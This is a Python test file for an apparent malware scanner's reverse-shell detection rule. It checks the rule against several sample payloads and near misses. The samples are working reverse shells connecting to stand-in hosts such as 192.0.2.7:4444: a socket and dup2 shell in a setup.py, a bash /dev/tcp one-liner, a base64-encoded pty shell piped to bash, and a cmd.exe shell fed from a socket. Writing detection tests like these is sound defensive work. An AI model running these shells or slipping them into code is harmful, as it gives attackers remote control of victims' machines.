"""Shells to another machine."""

from lazaretto.detect.rules.python.reverse_shell import RULE


def test_the_classic(scan):
    text = r"""import socket, subprocess, os
def shell():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("192.0.2.7", 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    subprocess.call(["/bin/sh", "-i"])
shell()
"""
    assert scan(RULE, text, "setup.py") == [(7, "HIGH", "HIGH", "install")]


def test_one_line(scan):
    text = r"""import os
os.system("bash -c 'bash -i >& /dev/tcp/192.0.2.7/7777 <&1'")
"""
    assert scan(RULE, text) == [(2, "HIGH", "HIGH", "import")]


def test_near_miss_a_lesson_that_quotes_it(scan):
    text = r"""import subprocess
LESSON = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
subprocess.run(["cat", "lesson.txt"])
"""
    assert scan(RULE, text) == []


def test_a_shell_that_is_encoded_first(scan):
    text = """
import base64, os
line = "python3 -c 'import socket,pty;s=socket.socket();s.connect((1,2));pty.spawn(\\"/bin/bash\\")'"
code = base64.b64encode(line.encode()).decode()
os.system(f"echo {code} | base64 -d | bash")
"""
    assert scan(RULE, text) == [(5, "HIGH", "HIGH", "import")]


def test_a_shell_fed_by_hand(scan):
    text = r"""import socket, subprocess
def main():
    s = socket.create_connection(("192.0.2.7", 4444))
    incoming = s.makefile("rb")
    p = subprocess.Popen(["cmd.exe"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    while True:
        p.stdin.write(incoming.read(1))
"""
    assert scan(RULE, text) == [(5, "HIGH", "HIGH", "run")]


def test_a_shell_whose_input_is_the_connection(scan):
    text = r"""import socket, subprocess
s = socket.socket()
s.connect(("192.0.2.7", 4444))
subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno())
"""
    assert scan(RULE, text) == [(4, "HIGH", "HIGH", "import")]


def test_near_miss_a_shell_fed_with_own_text(scan):
    text = r"""import socket, subprocess
s = socket.create_connection(("192.0.2.7", 4444))
p = subprocess.Popen(["bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
p.stdin.write(b"true")
"""
    assert scan(RULE, text) == []
